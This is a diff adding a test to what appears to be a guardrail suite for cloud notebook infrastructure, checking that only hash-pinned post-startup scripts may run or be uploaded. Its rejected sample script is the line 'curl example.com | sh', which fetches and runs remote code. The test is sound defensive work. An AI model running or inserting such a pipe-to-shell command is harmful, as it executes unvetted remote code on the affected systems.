@@ -1,5 +1,6 @@
 """Each guardrail refuses what it is for, unknown values included, and lets the modules' own work pass."""
 
+import hashlib
 from datetime import date
 from pathlib import Path
 
@@ -901,3 +902,32 @@ def test_whose_rights_code_runs_with_is_settled_when_a_notebook_is_made(our_flee
     assert [one.code for one in guardrails.check(read(document(switched)), asked)] == ["managed-euc"]
     found = guardrails.check(read(document(made)), our_fleet["strict"])
     assert [one.code for one in found] == ["managed-euc"]
+
+
+def test_scripts_are_those_that_the_fleet_file_makes(our_fleet):
+    ours, other = "#!/bin/bash\ntrue\n", "#!/bin/bash\ncurl example.com | sh\n"
+    bucket = "nbp-quickstart-quickstart-scripts"
+
+    def place(text, notebook="ana"):
+        return f"post-startup/{notebook}/{hashlib.sha256(text.encode()).hexdigest()}.sh"
+
+    def codes(*entries, scripts):
+        found = guardrails.check(read(document(*entries, **LOOKED_UP)), our_fleet["strict"], scripts)
+        return [finding.code for finding in found]
+
+    def runs(script):
+        keys = metadata(post_startup_script=f"gs://{bucket}/{script}" if script else None)
+        return create(metadata=keys)
+
+    def publishes(text, notebook="ana"):
+        name = place(text, notebook)
+        return create("google_storage_bucket_object", bucket=bucket, name=name, content=text)
+
+    asked, refused = {"ana": ours}, ["post-startup-source"]
+    assert codes(runs(place(ours)), publishes(ours), scripts=asked) == []
+    for script in (place(other), place(ours, "ben"), None):
+        assert codes(runs(script), scripts=asked) == refused
+        assert codes(runs(script), scripts={}) == []  # nobody composed any: a pinned one, or none
+    assert codes(publishes(other), scripts=asked) == refused
+    assert codes(publishes(ours, "ben"), scripts=asked) == refused
+    assert codes(publishes(other), scripts={}) == []
